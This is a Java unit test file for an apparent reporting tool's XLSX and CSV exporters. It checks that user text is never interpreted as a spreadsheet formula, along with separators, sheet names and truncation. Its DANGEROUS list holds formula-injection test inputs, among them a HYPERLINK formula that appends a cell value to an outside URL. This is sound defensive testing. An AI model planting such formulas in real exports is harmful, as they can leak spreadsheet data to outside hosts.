package org.vielstimmig.reports;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.io.InputStream;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.xssf.usermodel.XSSFCell;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.vielstimmig.i18n.Lang;
import org.vielstimmig.model.Report;
import org.vielstimmig.model.Report.Cell;
import org.vielstimmig.model.Report.Column;
import org.vielstimmig.model.Report.Column.Kind;

class SpreadsheetTest {

    private static final List<String> DANGEROUS = List.of(
            "=HYPERLINK(\"http://example.org/\"&A1;\"klick\")",
            "+49 30 1234",
            "-2+3",
            "@SUM(A1:A9)",
            "\t=1+1",
            "\n=1+1",
            "＝1+1");

    @TempDir
    Path folder;

    private static Report report(List<String> texts) {
        return new Report(
                "t",
                "Liste: A/B [1]",
                List.of(new Column("text", "Text", Kind.LONG), new Column("n", "Zahl", Kind.NUMBER)),
                texts.stream()
                        .map(t -> List.of(Cell.of(t), new Cell("0,85", 0.85)))
                        .toList(),
                List.of("=Hinweis"));
    }

    private XSSFWorkbook written(Report report) throws IOException {
        Path file = folder.resolve("t.xlsx");
        XlsxWriter.write(report, Lang.DE, file);
        try (InputStream in = Files.newInputStream(file)) {
            return new XSSFWorkbook(in);
        }
    }

    @Test
    void noTextEverBecomesAFormulaInAWorkbook() throws IOException {
        try (XSSFWorkbook book = written(report(DANGEROUS))) {
            for (int r = 0; r < DANGEROUS.size(); r++) {
                XSSFCell cell = book.getSheetAt(0).getRow(r + 1).getCell(0);
                assertEquals(CellType.STRING, cell.getCellType());
                assertEquals(DANGEROUS.get(r), cell.getStringCellValue());
                assertTrue(cell.getCellStyle().getQuotePrefixed(), DANGEROUS.get(r));
            }
            XSSFCell note = book.getSheet("Hinweise").getRow(1).getCell(0);
            assertEquals(CellType.STRING, note.getCellType());
            assertTrue(note.getCellStyle().getQuotePrefixed());
        }
    }

    @Test
    void harmlessTextsAreLeftAlone() throws IOException {
        try (XSSFWorkbook book = written(report(List.of("Wir = alle", "_x0041_ bleibt", "1=1")))) {
            for (int r = 1; r <= 3; r++) {
                assertFalse(
                        book.getSheetAt(0).getRow(r).getCell(0).getCellStyle().getQuotePrefixed());
            }
            assertEquals(
                    "_x0041_ bleibt", book.getSheetAt(0).getRow(2).getCell(0).getStringCellValue());
        }
    }

    @Test
    void theSheetIsReadyToWorkWith() throws IOException {
        try (XSSFWorkbook book = written(report(List.of("a", "b")))) {
            var sheet = book.getSheetAt(0);
            assertEquals("Liste: A/B [1]".replaceAll("[:/\\[\\]]", " ").strip(), sheet.getSheetName());
            assertEquals(1, sheet.getPaneInformation().getHorizontalSplitPosition());
            assertTrue(sheet.getPaneInformation().isFreezePane());
            assertEquals("A1:B3", sheet.getCTWorksheet().getAutoFilter().getRef());
            assertTrue(sheet.getRow(0).getCell(0).getCellStyle().getFont().getBold());
            assertTrue(sheet.getRow(1).getCell(0).getCellStyle().getWrapText());
            assertEquals(0.85, sheet.getRow(1).getCell(1).getNumericCellValue());
        }
    }

    @Test
    void aTextLongerThanACellSaysSoInsteadOfFailing() throws IOException {
        try (XSSFWorkbook book = written(report(List.of("ä".repeat(40_000))))) {
            String text = book.getSheetAt(0).getRow(1).getCell(0).getStringCellValue();
            assertTrue(text.length() <= XlsxWriter.CELL_LIMIT);
            assertTrue(text.endsWith("passen nicht in eine Zelle]"), text.substring(text.length() - 80));
        }
    }

    @Test
    void sheetsOfTheSameTitleGetNamesOfTheirOwn() throws IOException {
        Path file = folder.resolve("two.xlsx");
        XlsxWriter.write(List.of(report(List.of("a")), report(List.of("b"))), Lang.DE, file);
        try (InputStream in = Files.newInputStream(file);
                XSSFWorkbook book = new XSSFWorkbook(in)) {
            assertEquals(3, book.getNumberOfSheets());
            assertEquals("b", book.getSheetAt(1).getRow(1).getCell(0).getStringCellValue());
        }
    }

    @Test
    void noTextEverBecomesAFormulaInCsv() throws IOException {
        Path file = folder.resolve("t.csv");
        CsvWriter.write(report(DANGEROUS), Lang.DE, file);
        List<List<String>> rows = parsed(Files.readString(file), ';');
        for (int r = 0; r < DANGEROUS.size(); r++) {
            assertEquals("'" + DANGEROUS.get(r), rows.get(r + 1).get(0));
        }
        for (List<String> row : parsed(TsvWriter.text(report(DANGEROUS), Lang.DE), '\t')) {
            assertFalse(Formula.startsOne(row.get(0)), row.get(0));
        }
    }

    @Test
    void csvHasMarkSeparatorAndDecimalSignOfItsLanguage() throws IOException {
        Path file = folder.resolve("t.csv");
        Report one = report(List.of("a;b"));
        CsvWriter.write(one, Lang.DE, file);
        assertEquals("\uFEFFText;Zahl\r\n\"a;b\";0,85\r\n", Files.readString(file));
        CsvWriter.write(one, Lang.EN, file);
        assertEquals("\uFEFFText,Zahl\r\na;b,0.85\r\n", Files.readString(file));
        assertEquals((byte) 0xEF, Files.readAllBytes(file)[0]);
    }

    @Test
    void negativeNumbersStayNumbers() throws IOException {
        Report report = new Report(
                "t",
                "T",
                List.of(new Column("n", "n", Kind.NUMBER)),
                List.of(List.of(new Cell("−0,5", -0.5)), List.of(new Cell("–", Double.NaN))),
                List.of());
        Path file = folder.resolve("n.csv");
        CsvWriter.write(report, Lang.EN, file);
        assertEquals("\uFEFFn\r\n-0.5\r\n–\r\n", Files.readString(file));
    }

    @Test
    void everyTextComesBackFromCsv() throws IOException {
        long seed = Long.getLong("vielstimmig.seed", System.nanoTime());
        System.out.println("seed " + seed);
        Random random = new Random(seed);
        String alphabet = "aä;,\"\n'=+-@ \t😀";
        List<String> texts = new ArrayList<>();
        for (int i = 0; i < 500; i++) {
            StringBuilder text = new StringBuilder();
            for (int c = random.nextInt(12); c > 0; c--) {
                int at = random.nextInt(alphabet.codePointCount(0, alphabet.length()));
                text.appendCodePoint(alphabet.codePointAt(alphabet.offsetByCodePoints(0, at)));
            }
            texts.add(text.toString());
        }
        Path file = folder.resolve("all.csv");
        CsvWriter.write(report(texts), Lang.EN, file);
        List<List<String>> rows = parsed(Files.readString(file), ',');
        for (int i = 0; i < texts.size(); i++) {
            assertEquals(Formula.neutral(texts.get(i)), rows.get(i + 1).get(0), "row " + i);
        }
    }

    @Test
    void theCodebooksColumnsStandInTheirOrderInEitherLanguage() throws IOException {
        for (Lang lang : Lang.values()) {
            Report report = CodebookReport.of(new Invented().codebook(lang));
            Path file = folder.resolve(lang + ".xlsx");
            XlsxWriter.write(report, lang, file);
            try (InputStream in = Files.newInputStream(file);
                    XSSFWorkbook book = new XSSFWorkbook(in)) {
                var head = book.getSheetAt(0).getRow(0);
                for (CodebookReport.Field field : CodebookReport.Field.values()) {
                    String title = head.getCell(field.ordinal()).getStringCellValue();
                    assertEquals(field.title(lang), title);
                }
            }
        }
    }

    /// A reader after RFC 4180, of the test's own.
    private static List<List<String>> parsed(String text, char separator) {
        List<List<String>> rows = new ArrayList<>();
        List<String> row = new ArrayList<>();
        StringBuilder cell = new StringBuilder();
        boolean quoted = false;
        for (int i = text.startsWith("\uFEFF") ? 1 : 0; i < text.length(); i++) {
            char c = text.charAt(i);
            if (quoted && c == '"' && i + 1 < text.length() && text.charAt(i + 1) == '"') {
                cell.append('"');
                i++;
            } else if (c == '"') {
                quoted = !quoted;
            } else if (!quoted && c == separator) {
                row.add(cell.toString());
                cell.setLength(0);
            } else if (!quoted && c == '\n') {
                row.add(cell.toString());
                cell.setLength(0);
                rows.add(row);
                row = new ArrayList<>();
            } else if (quoted || c != '\r') {
                cell.append(c);
            }
        }
        return rows;
    }
}
